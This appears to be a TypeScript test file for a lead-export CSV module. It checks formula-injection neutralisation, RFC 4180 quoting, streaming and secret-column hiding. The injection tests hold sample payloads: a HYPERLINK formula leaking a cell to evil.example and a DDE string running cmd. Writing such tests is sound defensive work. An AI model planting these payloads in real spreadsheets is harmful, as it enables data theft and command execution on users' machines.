import { BOM, csvCell, csvLines, csvRow, neutralise } from '../../../shared/sell/csv';
import { LEAD_COLUMNS } from '../../../shared/sell/leadCsv';
import { parseCsv } from '../../support/csv';
import { record } from './records';

async function collect(lines: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const line of lines) out += line;
  return out;
}

async function* from<T>(items: T[]): AsyncGenerator<T> {
  for (const item of items) yield await Promise.resolve(item);
}

describe('CSV injection (OWASP)', () => {
  test.each([
    ['=HYPERLINK("http://evil.example?x="&A1,"Click")', `'=HYPERLINK("http://evil.example?x="&A1,"Click")`],
    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(1,1)', "'@SUM(1,1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"],
    ['+48 600 100 200', "'+48 600 100 200"],
  ])('%j is neutralised', (input, expected) => {
    expect(neutralise(input)).toBe(expected);
  });

  test.each(['Fabrikam', 'a=b', 'jan@fabrikam.example', '1+1', "'quoted already", ''])(
    '%j is left as it is',
    (input) => {
      expect(neutralise(input)).toBe(input);
    },
  );
});

describe('RFC 4180', () => {
  test('every cell is quoted, quotes doubled, lines end in CRLF', () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvRow(['a', 1, true, undefined])).toBe('"a","1","true",""\r\n');
  });

  test('commas, quotes and line breaks inside cells read back as the same cells', async () => {
    const nasty = record({ company: 'Contoso, "Ltd"', statusNote: 'line one\r\nline two\nthree', firstName: '=cmd' });
    const text = await collect(csvLines(LEAD_COLUMNS, from([nasty])));
    const rows = parseCsv(text.slice(BOM.length));
    expect(rows).toHaveLength(2);
    const header = rows[0]!;
    const cells = Object.fromEntries(header.map((h, i) => [h, rows[1]![i]]));
    expect(cells.Company).toBe('Contoso, "Ltd"');
    expect(cells['Status note']).toBe('line one\r\nline two\nthree');
    expect(cells['First name']).toBe("'=cmd");
  });

  test('the output starts with a UTF-8 BOM and a header, and is produced a line at a time', async () => {
    const pulled: number[] = [];
    async function* slow(): AsyncGenerator<ReturnType<typeof record>> {
      for (let i = 0; i < 3; i++) {
        pulled.push(i);
        yield await Promise.resolve(record({ firstName: `P${i}` }));
      }
    }
    const lines = csvLines(LEAD_COLUMNS, slow());
    const first = await lines.next();
    expect(first.value).toMatch(/^\uFEFF"Lead id","First seen \(UTC\)"/);
    // Nothing was read from the source to write the header: the export streams rather than building a string.
    expect(pulled).toEqual([]);
    await lines.next();
    expect(pulled).toEqual([0]);
  });

  test('no column exposes the matching key or raw payload', () => {
    const headers = LEAD_COLUMNS.map((c) => c.header.toLowerCase());
    expect(headers.some((h) => h.includes('match') || h.includes('raw'))).toBe(false);
    const values = LEAD_COLUMNS.map((c) => String(c.value(record({ emailMatch: 'secret-match-key@x.example' }))));
    expect(values).not.toContain('secret-match-key@x.example');
  });
});
